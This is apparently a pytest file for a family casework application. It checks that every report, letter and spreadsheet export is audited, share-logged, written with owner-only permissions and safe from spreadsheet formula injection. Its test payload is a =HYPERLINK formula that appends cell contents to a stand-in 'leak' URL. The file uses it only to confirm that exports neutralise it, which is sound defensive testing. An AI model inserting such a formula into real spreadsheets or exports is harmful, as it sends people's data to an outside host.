"""The output registry: every registered output is produced here, the way the command line and
the desktop app produce it, and checked for each step: the gate decision (or a stated reason
for none) and its share-log entry, the audit entry, an owner-only file written whole, and no
spreadsheet cell a formula could hide in. A scan of the code fails for any command or action
that writes a file some other way than through the registry's writer."""

from __future__ import annotations

import ast
import csv
import io
import os
from collections.abc import Callable
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import PASSWORD, consent_for_monitoring
from familycase.domain.consent import ConsentRecord, Purpose
from familycase.domain.costs.scenario import PreventedCostLine
from familycase.domain.enums import AgencyType, ReferralDecision
from familycase.domain.instruments import OutcomeArea
from familycase.reports.audit_csv import write_audit_csv
from familycase.reports.chronology_pdf import write_chronology
from familycase.reports.claims_csv import write_claims_csv
from familycase.reports.cohort_csv import write_cohort_csv
from familycase.reports.cost_return_csv import write_cost_return_csv
from familycase.reports.cost_return_pdf import write_cost_return_pdf
from familycase.reports.cost_return_xlsx import write_cost_return_xlsx
from familycase.reports.genogram_pdf import write_genogram
from familycase.reports.panel_pdf import write_panel_pack
from familycase.reports.referral_letter_pdf import write_letter
from familycase.reports.service_report import write_service_report
from familycase.reports.subject_access_pdf import write_subject_access
from familycase.services import (
    audit_log,
    claims,
    cohort,
    costs,
    documents,
    families,
    genogram,
    outputs,
    panel,
    referrals,
    reporting,
    subject_access,
    timeline,
    work,
)
from familycase.services import consent as consent_service
from familycase.services.consent import Recipient
from familycase.services.exchange import export_summaries
from familycase.services.service_report import service_report

# Text that a spreadsheet would run as a formula, in every text field that reaches an export.
PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
SRC = Path(__file__).parents[1] / "src" / "familycase"


def _with_costs(lead, family_id: str) -> None:
    line = PreventedCostLine.model_validate(
        {
            "what_was_avoided": PAYLOAD,
            "unit_cost": {"value": 500, "price_year": "2024-25", "source": PAYLOAD, "unit": "case"},
            "quantity": 1,
            "probability": "0.5",
            "evidence_strength": "strong",
            "agency": PAYLOAD,
            "assessed_on": date.today(),
            "rationale": PAYLOAD,
        }
    )
    costs.record_prevented_cost(
        lead, family_id, costs.PreventedCostRecord(line=line, outcome_area=OutcomeArea.HEALTH)
    )
    costs.record_intervention_cost(
        lead,
        family_id,
        costs.InterventionCostEntry(
            kind="flexible_spend",
            spent_on=date.today(),
            description=PAYLOAD,
            amount=-20 + 120,
            agency=PAYLOAD,
            source=PAYLOAD,
        ),
    )
    costs.record_outcome(
        lead,
        family_id,
        costs.RealisedOutcome(
            outcome_area=OutcomeArea.HEALTH, what_changed=PAYLOAD, achieved_on=date.today()
        ),
    )


def _params() -> costs.ReturnParameters:
    return costs.ReturnParameters(date.today() - timedelta(days=30), date.today())


def _document_copy(env, target: Path) -> None:
    document = documents.attach(env.lead, env.family_id, "letter.pdf", b"%PDF-1.4 test")
    documents.save_copy(env.lead, env.family_id, document, target)


def _referral_letter(env, target: Path) -> None:
    work.record_referral_decision(
        env.lead, env.family_id, ReferralDecision.SIGNPOSTED, reason="Hub"
    )
    write_letter(env.lead, referrals.prepare_letter(env.lead, env.family_id), target)


def _chronology(env, target: Path) -> None:
    printed = timeline.prepare_print(env.lead, env.family_id, Recipient(agency_type="health"))
    write_chronology(env.lead, printed, target)


def _panel_pack(env, target: Path) -> None:
    recipient = Recipient(agency_type=AgencyType.HEALTH)
    pack = panel.build_pack(
        env.lead, [env.family_id], recipient, {env.family_id: panel.PanelRequest()}, Purpose.PANEL
    )
    write_panel_pack(env.lead, pack, None, target)


def _summary_bundle(env, target: Path) -> None:
    written = export_summaries(env.kw1, target.parent)
    written.rename(target)


def _subject_access(env, target: Path) -> None:
    person = families.open_family(env.lead, env.family_id).file.members[0]
    pack = subject_access.subject_access(env.lead, env.family_id, person.id)
    write_subject_access(env.lead, env.family_id, pack, target.parent, target.stem)


def _audit_csv(env, target: Path) -> None:
    entries = audit_log.query_audit(env.lead)
    write_audit_csv(env.lead, entries, target, {})


def _caseload_list(env, target: Path) -> None:
    from familycase.cli import main

    data = str(env.team.data_dir or env.team.url)
    env.monkeypatch.setenv("FAMILYCASE_PASSWORD", PASSWORD)
    assert (
        main(["--data", data, "--user", "lead", "caseload", "--view", "team", "--format", "csv"])
        == 0
    )
    captured = env.capsys.readouterr()
    assert "outside FamilyCase's encrypted vault" in captured.err or "vault" in captured.err
    outputs.write_private(target, captured.out.encode("utf-8"))  # what a script keeps


def _consent_evidence(env, target: Path) -> None:
    person = families.open_family(env.lead, env.family_id).file.members[0]
    record = ConsentRecord(
        member_id=person.id,
        given_by="the_person",
        method="written",
        agencies=["school"],
        purposes=["panel"],
        categories=["basic_details"],
        given_on=date.today(),
    )
    consent_service.record_consent(env.lead, env.family_id, record)
    evidence = consent_service.attach_evidence(
        env.lead, env.family_id, record.id, "form.pdf", "application/pdf", b"%PDF-1.4 form"
    )
    consent_service.save_evidence_copy(env.lead, env.family_id, evidence, target)


def _cost_return(fmt: str) -> Callable[..., None]:
    writers = {
        "csv": write_cost_return_csv,
        "xlsx": write_cost_return_xlsx,
        "pdf": write_cost_return_pdf,
    }

    def produce(env, target: Path) -> None:
        ret = costs.cohort_return(env.boss, _params())
        assert len(ret.families) == 2 and len(ret.withheld) == 1  # every family counts
        writers[fmt](ret, target)
        costs.record_return_export(env.boss, ret, fmt)

    return produce


def _claims_csv(env, target: Path) -> None:
    report = claims.claims_report(env.boss)
    assert [ref for ref, _ in report.withheld] == [env.other_reference]
    write_claims_csv(report, target)
    claims.record_claims_export(env.boss, report, str(target))


def _cohort_csv(env, target: Path) -> None:
    write_cohort_csv(env.boss, cohort.cohort_report(env.boss), target)


def _service_report(fmt: str) -> Callable[..., None]:
    def produce(env, target: Path) -> None:
        report = service_report(env.boss, date.today() - timedelta(days=60), date.today())
        write_service_report(env.boss, report, target, fmt)

    return produce


def _genogram(env, target: Path) -> None:
    printed = genogram.prepare_print(env.lead, env.family_id, Recipient(agency_type="school"))
    write_genogram(env.lead, printed, target)


PRODUCE: dict[str, Callable[..., None]] = {
    "document_copy": _document_copy,
    "referral_letter": _referral_letter,
    "chronology_pdf": _chronology,
    "panel_pack": _panel_pack,
    "summary_bundle": _summary_bundle,
    "subject_access": _subject_access,
    "audit_csv": _audit_csv,
    "caseload_list": _caseload_list,
    "consent_evidence_copy": _consent_evidence,
    "cost_return_csv": _cost_return("csv"),
    "cost_return_xlsx": _cost_return("xlsx"),
    "cost_return_pdf": _cost_return("pdf"),
    "claims_csv": _claims_csv,
    "cohort_csv": _cohort_csv,
    "service_report_xlsx": _service_report("xlsx"),
    "service_report_pdf": _service_report("pdf"),
    "genogram_pdf": _genogram,
}


def test_every_registered_output_is_checked_here():
    assert set(PRODUCE) == set(outputs.OUTPUTS)
    for output in outputs.OUTPUTS.values():
        assert output.purpose is not None or len(output.no_gate_because) > 40
        assert output.purpose is None or output.share_logged
        assert output.cli or output.gui, f"{output.name}: how is it made?"
    with pytest.raises(ValueError, match="reason it needs none"):
        outputs.Output("x", "x", "x", purpose=None)
    with pytest.raises(ValueError, match="always share-logged"):
        outputs.Output("x", "x", "x", purpose=Purpose.PANEL)


class Env:
    pass


def _cells(path: Path, fmt: str) -> list[object]:
    if fmt == "csv":
        text = path.read_bytes().decode("utf-8")
        assert "\r\n" in text  # CRLF (RFC 4180)
        if path.stem != "caseload_list":  # a file (not a listing on stdout): with a BOM
            assert text.startswith("\ufeff")
        return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    if fmt == "xlsx":
        wb = load_workbook(path)
        return [c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type != "f"]
    return []


@pytest.mark.parametrize("name", sorted(PRODUCE))
def test_each_output_takes_every_step(team, make_family, tmp_path, monkeypatch, capsys, name):
    output = outputs.OUTPUTS[name]
    env = Env()
    env.team, env.monkeypatch, env.capsys = team, monkeypatch, capsys
    env.kw1 = team.unlock("kw1")
    env.family_id = make_family(env.kw1, "Outputby")
    env.lead = team.unlock("lead")
    other = make_family(env.lead, "Nosayso")
    for family_id in (env.family_id, other):
        _with_costs(env.lead, family_id)
    consent_for_monitoring(env.lead, env.family_id)  # the other family never agreed
    env.other_reference = families.open_family(env.lead, other).file.reference
    env.boss = team.unlock("boss")
    folder = tmp_path / "out"
    folder.mkdir()
    fmt = output.formats[0] if output.formats[0] not in ("any", "json") else "pdf"
    target = folder / f"{name}.{fmt}"
    target.write_bytes(b"an older file, readable by all")
    os.chmod(target, 0o644)
    before = {e.seq for e in audit_log.query_audit(env.lead)}
    log_before = len(consent_service.share_log(env.lead, env.family_id))
    PRODUCE[name](env, target)
    written = sorted(folder.iterdir())
    assert written, "no file"
    for path in written:
        assert os.stat(path).st_mode & 0o777 == 0o600, path.name
        assert ".partial" not in path.name  # no partial file left
    new = [e for e in audit_log.query_audit(env.lead) if e.seq not in before]
    assert any(
        e.action == output.audit_action
        and (
            e.object_id == env.family_id
            or e.detail.get("family") == env.family_id
            or e.object_type in (output.name, output.audit_object)
            or e.detail.get("output") == output.name
        )
        for e in new
    ), [(e.action, e.object_type) for e in new]
    if output.share_log == outputs.REPORT_SHARE_LOG:
        shares = reporting.report_shares(env.boss)
        assert [s.output for s in shares][:1] == [name]
        assert shares[0].withheld == (0 if name == "cohort_csv" else 1)
    elif output.share_logged:
        log = consent_service.share_log(env.lead, env.family_id)
        assert len(log) > log_before and log[0].entry.purpose is output.purpose
    else:
        assert len(consent_service.share_log(env.lead, env.family_id)) == log_before
    if fmt in ("csv", "xlsx"):
        for value in _cells(target, fmt):
            if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                if fmt == "csv" and _number(value):
                    continue  # a negative amount: a number, not a formula
                pytest.fail(f"{name}: a cell could run as a formula: {value[:40]!r}")
        if name.startswith("cost_return"):
            assert any(
                isinstance(v, str) and v.startswith("'=HYPERLINK") for v in _cells(target, fmt)
            ), "the payload did not reach the export"


def _number(value: str) -> bool:
    try:
        Decimal(value)
    except ArithmeticError:
        return False
    return True


def test_a_failed_write_leaves_nothing(tmp_path):
    missing = tmp_path / "no such folder" / "x.pdf"
    with pytest.raises(FileNotFoundError):
        outputs.write_private(missing, b"data")
    assert list(tmp_path.iterdir()) == []


# Files the code may write without the registry, and why: none of them leaves the vault.
NOT_OUTPUTS = {
    "services/verify.py": "a verify checkpoint: audit and directory hashes, no case data",
    "gui/common/crash.py": "the crash report: written without personal details",
    "gui/admin/preferences.py": "preferences (QSettings)",
    "reports/dictionary.py": "a developer's tool writing docs/ (the data dictionary), no data",
}
WRITES = {"write_bytes", "write_text", "mkstemp", "NamedTemporaryFile"}


def _writes(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text())):
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        if name in WRITES:
            found.append(f"{name} (line {node.lineno})")
        elif name == "open" and len(node.args) > 1:
            mode = node.args[1]
            if isinstance(mode, ast.Constant) and any(c in str(mode.value) for c in "wax"):
                found.append(f"open {mode.value!r} (line {node.lineno})")
        elif name == "fdopen" and len(node.args) > 1:
            found.append(f"fdopen (line {node.lineno})")
    return found


def test_no_command_or_action_writes_a_file_outside_the_registry():
    problems = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        if relative in NOT_OUTPUTS or relative.startswith(("store/", "demo")):
            continue
        problems += [f"{relative}: {w}" for w in _writes(path)]
    assert problems == [], "write through services/outputs.write_private: " + "; ".join(problems)
